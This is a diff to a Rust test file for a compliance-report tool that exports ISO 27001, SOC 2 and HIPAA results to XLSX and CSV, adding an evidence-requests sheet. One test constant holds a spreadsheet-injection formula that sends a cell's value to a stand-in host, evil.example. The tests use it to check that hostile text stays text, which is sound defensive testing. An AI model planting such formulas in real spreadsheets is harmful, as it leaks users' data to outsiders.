@@ -3,13 +3,18 @@
 //! and is the same bytes for the same report.
 
 use chrono::NaiveDate;
-use crosswalk_engine::{evaluate, Report};
+use crosswalk_engine::{evaluate, evidence_requests, EvidenceRequests, Report};
 use crosswalk_host::{load_profile, Registry};
 use crosswalk_report::{report_csv, report_xlsx, CsvTable};
 use std::io::Read;
 use std::path::PathBuf;
 
 fn example_report() -> Report {
+    example().0
+}
+
+/// The example's report as of 2026-11-30 and its evidence requests.
+fn example() -> (Report, EvidenceRequests) {
     // Referencing the plugin crates keeps their registrations in this test binary.
     std::hint::black_box([crosswalk_iso27001::plugin, crosswalk_soc2::plugin, crosswalk_hipaa::plugin]);
     let registry = Registry::builtin().expect("built-in catalogs load");
@@ -17,7 +22,9 @@ fn example_report() -> Report {
     let profile = load_profile(&path, &registry, &[]).expect("the example profile is valid");
     let plugins: Vec<_> = profile.scope.frameworks.iter().map(|id| registry.plugin(id).expect("selected framework")).collect();
     let as_of = NaiveDate::from_ymd_opt(2026, 11, 30).expect("date");
-    evaluate(&registry.hub, &profile, &plugins, as_of)
+    let report = evaluate(&registry.hub, &profile, &plugins, as_of);
+    let evidence = evidence_requests(&report, &profile, &plugins);
+    (report, evidence)
 }
 
 const TITLE: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
@@ -149,12 +156,28 @@ fn header_cells(sheet: &str, strings: &[String]) -> Vec<String> {
     between(first_row, "<v>", "</v>").into_iter().map(|index| strings[index.parse::<usize>().expect("a string index")].clone()).collect()
 }
 
+const EVIDENCE_HEADERS: [&str; 13] = [
+    "framework",
+    "status",
+    "kind",
+    "control",
+    "system",
+    "objective",
+    "asked",
+    "detail",
+    "missing intervals",
+    "on file",
+    "newest on file",
+    "owner",
+    "requirements",
+];
+
 #[test]
-fn xlsx_reads_back_with_a_sheet_per_framework_the_agenda_and_the_shared_gaps() {
-    let report = example_report();
-    let files = unzip(&report_xlsx(&report).expect("the workbook renders"));
+fn xlsx_reads_back_with_a_sheet_per_framework_the_agenda_the_shared_gaps_and_the_evidence_requests() {
+    let (report, evidence) = example();
+    let files = unzip(&report_xlsx(&report, &evidence).expect("the workbook renders"));
     let names: Vec<String> = between(&files["xl/workbook.xml"], "<sheet name=\"", "\"").into_iter().map(unescape).collect();
-    assert_eq!(names, ["iso27001", "soc2", "hipaa", "agenda", "shared gaps"]);
+    assert_eq!(names, ["iso27001", "soc2", "hipaa", "agenda", "shared gaps", "evidence requests"]);
     let strings = shared_strings(&files);
 
     let iso = &files["xl/worksheets/sheet1.xml"];
@@ -188,7 +211,12 @@ fn xlsx_reads_back_with_a_sheet_per_framework_the_agenda_and_the_shared_gaps() {
     assert_eq!(header_cells(gaps, &strings)[..3], ["objective", "title", "status"]);
     assert_eq!(gaps.matches("<row ").count(), 1 + report.shared_gaps.len());
 
-    for sheet in (1..=5).map(|n| &files[&format!("xl/worksheets/sheet{n}.xml")]) {
+    let requests = &files["xl/worksheets/sheet6.xml"];
+    assert_eq!(header_cells(requests, &strings), EVIDENCE_HEADERS);
+    assert!(evidence.total > 0 && evidence.missing > 0 && evidence.present > 0, "the example has requests of each kind");
+    assert_eq!(requests.matches("<row ").count(), 1 + evidence.total, "a header and a row per request");
+
+    for sheet in (1..=6).map(|n| &files[&format!("xl/worksheets/sheet{n}.xml")]) {
         assert!(sheet.contains("state=\"frozen\"") && sheet.contains("ySplit=\"1\""), "the header row is frozen");
         assert!(sheet.contains("<autoFilter ref=\"A1:"), "the header row filters");
         assert!(sheet.contains("<cols>"), "columns are sized");
@@ -197,16 +225,18 @@ fn xlsx_reads_back_with_a_sheet_per_framework_the_agenda_and_the_shared_gaps() {
 
 #[test]
 fn xlsx_is_the_same_bytes_for_the_same_report_dated_by_its_as_of() {
-    let report = example_report();
-    let first = report_xlsx(&report).expect("the workbook renders");
-    assert_eq!(first, report_xlsx(&example_report()).expect("the workbook renders"), "two renders, the same bytes");
+    let (report, evidence) = example();
+    let first = report_xlsx(&report, &evidence).expect("the workbook renders");
+    let (again, again_evidence) = example();
+    assert_eq!(first, report_xlsx(&again, &again_evidence).expect("the workbook renders"), "two renders, the same bytes");
     let core = &unzip(&first)["docProps/core.xml"];
     assert!(core.contains(">2026-11-30T00:00:00Z</dcterms:created>"), "created on the as-of date: {core}");
 }
 
 #[test]
 fn xlsx_keeps_hostile_words_as_text_never_formulas() {
-    let files = unzip(&report_xlsx(&hostile_report()).expect("the workbook renders"));
+    let evidence = example().1;
+    let files = unzip(&report_xlsx(&hostile_report(), &evidence).expect("the workbook renders"));
     for (name, sheet) in files.iter().filter(|(name, _)| name.starts_with("xl/worksheets/")) {
         assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "{name} holds a formula");
     }
@@ -222,7 +252,7 @@ fn example_soa(hostile: bool) -> crosswalk_report::StatementOfApplicability {
     std::hint::black_box([crosswalk_iso27001::plugin, crosswalk_soc2::plugin, crosswalk_hipaa::plugin]);
     let registry = Registry::builtin().expect("built-in catalogs load");
     let path = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../examples/acme-health");
-    let mut profile = load_profile(&path, &registry, &[]).expect("the example profile is valid");
+    let profile = load_profile(&path, &registry, &[]).expect("the example profile is valid");
     let plugins: Vec<_> = profile.scope.frameworks.iter().map(|id| registry.plugin(id).expect("selected framework")).collect();
     let as_of = NaiveDate::from_ymd_opt(2026, 11, 30).expect("date");
     let mut report = evaluate(&registry.hub, &profile, &plugins, as_of);
@@ -230,9 +260,10 @@ fn example_soa(hostile: bool) -> crosswalk_report::StatementOfApplicability {
         for control in &mut report.controls {
             control.title = TITLE.to_owned();
         }
-        let exclusions = profile.scope.sections.get_mut("iso27001").and_then(|s| s.get_mut("exclusions")).expect("exclusions");
-        for exclusion in exclusions.as_array_mut().expect("a list") {
-            exclusion["justification"] = REASON.into();
+        // An exclusion's justification reaches the statement as the plugin's reason.
+        let iso = report.frameworks.iter_mut().find(|f| f.id == "iso27001").expect("iso27001 is evaluated");
+        for excluded in iso.requirements.iter_mut().filter(|r| r.baseline == crosswalk_model::Verdict::NotApplicable) {
+            excluded.reason = REASON.to_owned();
         }
     }
     let catalog = registry.plugin("iso27001").expect("iso27001").catalog();
@@ -288,4 +319,24 @@ fn soa_xlsx_reads_back_as_one_sheet_of_93_controls() {
     let sheet = &hostile["xl/worksheets/sheet1.xml"];
     assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "the sheet holds a formula");
     assert!(shared_strings(&hostile).iter().any(|s| s == REASON), "the justification is kept as text");
+}
+
+#[test]
+fn evidence_xlsx_reads_back_as_one_sheet_of_requests_and_csv_has_the_same_rows() {
+    let evidence = example().1;
+    let bytes = crosswalk_report::evidence_xlsx(&evidence).expect("the workbook renders");
+    assert_eq!(bytes, crosswalk_report::evidence_xlsx(&example().1).expect("the workbook renders"), "the same bytes");
+    let files = unzip(&bytes);
+    let names: Vec<String> = between(&files["xl/workbook.xml"], "<sheet name=\"", "\"").into_iter().map(unescape).collect();
+    assert_eq!(names, ["evidence requests"]);
+    let sheet = &files["xl/worksheets/sheet1.xml"];
+    assert_eq!(header_cells(sheet, &shared_strings(&files)), EVIDENCE_HEADERS);
+    assert_eq!(sheet.matches("<row ").count(), 1 + evidence.total);
+    assert!(sheet.contains("state=\"frozen\"") && sheet.contains("<autoFilter ref=\"A1:") && sheet.contains("<cols>"));
+
+    let (headers, rows) = csv_rows(&crosswalk_report::evidence_csv(&evidence).expect("CSV renders"));
+    assert_eq!(headers, EVIDENCE_HEADERS);
+    assert_eq!(rows.len(), evidence.total, "one row per request");
+    let missing = rows.iter().filter(|row| row[column(&headers, "status")] == "missing").count();
+    assert_eq!(missing, evidence.missing);
 }
